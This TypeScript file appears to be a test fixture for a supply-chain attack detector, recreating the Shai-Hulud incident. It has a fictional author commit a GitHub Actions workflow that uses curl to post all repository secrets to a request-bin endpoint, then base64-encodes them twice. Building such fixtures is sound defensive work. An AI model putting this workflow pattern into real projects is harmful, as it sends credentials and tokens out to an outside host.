import { TOMAS } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { workflow } from "../../project-files.ts";
import { ALL_SECRETS, BASE64, CURL, REQUEST_BIN } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story:
    "Shai-Hulud, September 2025: a workflow on a new branch posts all secrets, as one JSON object, to a page that shows what it is sent.",
  write(branch) {
    branch.unsigned(TOMAS, "Add workflow", {
      ".github/workflows/shai-hulud-workflow.yml": workflow({
        on: "push",
        head: "",
        steps: `- uses: actions/checkout@v5\n- name: Data Processing\n  run: |\n    ${CURL} -d "$CONTENTS" ${REQUEST_BIN}/bb8ca5f6-0000-0000-0000-000000000000\n    echo "$CONTENTS" | ${BASE64} -w 0 | ${BASE64} -w 0\n  env:\n    CONTENTS: ${ALL_SECRETS}`,
      }),
    });
  },
};
